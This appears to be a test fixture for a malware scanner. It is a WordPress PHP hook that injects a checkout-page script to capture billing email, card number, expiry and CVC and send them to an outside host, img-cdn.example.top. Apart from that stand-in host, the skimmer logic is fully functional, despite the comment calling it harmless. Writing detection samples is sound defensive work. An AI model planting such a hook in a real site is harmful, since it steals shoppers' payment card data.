<?php
// spamtrace test sample: harmless look-alike written for the scanner tests (never run).
add_action('wp_footer', function () {
    if (!is_checkout()) return;
    ?><script>
(function(){var d={};
['billing_email','cc-number','cc-exp','cc-cvc'].forEach(function(n){
  var el=document.getElementById(n); if(!el) return;
  el.addEventListener('blur',function(){d[n]=el.value;
    new Image().src='https://img-cdn.example.top/p.gif?d='+encodeURIComponent(btoa(JSON.stringify(d)));});
});})();
</script><?php
});
